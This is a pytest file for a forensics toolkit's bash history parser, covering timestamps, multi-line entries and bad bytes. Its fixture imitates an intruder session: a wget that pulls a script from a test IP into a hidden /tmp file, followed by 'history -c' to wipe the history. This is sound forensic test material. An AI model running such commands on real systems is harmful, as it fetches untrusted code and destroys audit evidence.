"""bash history reader: with and without HISTTIMEFORMAT stamps, multi-line entries, generator round trip."""

from __future__ import annotations

import pytest
from artefact_samples import generated

from forensics_kit.artefacts import read_bash_history

COMMANDS = [{"time": "2024-03-05T14:06:10Z", "command": "id"}, "wget http://203.0.113.9/x.sh -O /tmp/.x",
            {"time": "2024-03-05T14:10:00Z", "command": "history -c"}]


def test_generated_history_with_timestamps_reads_back_times_and_commands():
    commands = read_bash_history(generated("bash_history", timestamps=True, commands=COMMANDS))
    assert [c.command for c in commands] == ["id", "wget http://203.0.113.9/x.sh -O /tmp/.x", "history -c"]
    assert commands[0].time == "2024-03-05T14:06:10Z" and commands[2].time == "2024-03-05T14:10:00Z"
    assert "2024-03-05T14:06:10Z" < commands[1].time < "2024-03-05T14:10:00Z"


def test_history_without_timestamps_has_no_times():
    commands = read_bash_history(generated("bash_history", commands=COMMANDS))
    assert [(c.line, c.time, c.command) for c in commands] == [
        (1, None, "id"), (2, None, "wget http://203.0.113.9/x.sh -O /tmp/.x"), (3, None, "history -c")]


def test_lines_before_the_first_stamp_are_untimed_and_stamped_multi_line_entries_stay_whole():
    text = "ls\n#1709647570\nfor f in *; do\n  echo $f\ndone\n#1709647590\n# a comment typed by the user\n"
    commands = read_bash_history(text)
    assert [(c.line, c.time, c.command) for c in commands] == [
        (1, None, "ls"),
        (3, "2024-03-05T14:06:10Z", "for f in *; do\n  echo $f\ndone"),
        (7, "2024-03-05T14:06:30Z", "# a comment typed by the user"),
    ]


def test_undecodable_bytes_do_not_stop_the_reader():
    assert read_bash_history(b"echo \xff\xfe\nls\n")[1].command == "ls"


def test_generator_needs_a_time_for_the_first_stamped_command():
    with pytest.raises(ValueError, match="first command needs a time"):
        generated("bash_history", timestamps=True, commands=["ls"])
